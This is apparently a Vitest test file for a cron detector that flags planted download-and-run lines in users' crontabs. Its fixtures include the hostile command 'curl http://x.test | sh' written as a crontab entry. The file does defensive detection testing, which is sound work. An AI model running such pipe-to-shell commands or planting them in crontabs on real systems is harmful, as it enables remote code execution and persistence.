import { describe, expect, it } from 'vitest';
import type { AccountSightings } from '../../../src/detectors/contract.ts';
import { cron } from '../../../src/detectors/cron.ts';
import { type MemoryFile, memoryFiles } from '../../support/memory-files.ts';
import { planAccount } from '../../support/plan-inputs.ts';

const look = (contents: Readonly<Record<string, MemoryFile>>): Promise<AccountSightings> =>
  cron.look({ account: planAccount(), files: memoryFiles(contents), installations: [] });

describe('cron', () => {
  it('finds a planted line where Debian and where Red Hat keep it, with its place and times', async () => {
    const text = '# x\n\n@daily \\\n  curl http://x.test | sh\n';
    for (const path of ['/var/spool/cron/crontabs/bob', '/var/spool/cron/bob']) {
      const { sightings, issues } = await look({ [path]: { text, changedMs: 86_400_000, modifiedMs: 0 } });
      expect(issues).toEqual([]);
      expect(sightings).toHaveLength(1);
      expect(sightings[0]).toMatchObject({ rule: 'cron.download-run', severity: 'high', path, line: 3 });
      expect(sightings[0]?.evidence[0]).toMatchObject({ changedAt: '1970-01-02T00:00:00.000Z', line: 3, offset: 5 });
    }
  });

  it('says nothing of an honest crontab, of another user’s, and of none', async () => {
    expect(await look({ '/var/spool/cron/bob': '* * * * * php /home/bob/cron.php\n' })).toEqual({
      sightings: [],
      issues: [],
    });
    expect(await look({ '/var/spool/cron/alice': '* * * * * curl http://x.test | sh\n' })).toEqual({
      sightings: [],
      issues: [],
    });
    expect(await look({})).toEqual({ sightings: [], issues: [] });
  });

  it('says that a crontab could not be read', async () => {
    const { issues } = await look({ '/var/spool/cron/bob': { unreadable: true } });
    expect(issues.map(({ reason }) => reason)).toEqual(['unreadable']);
  });
});
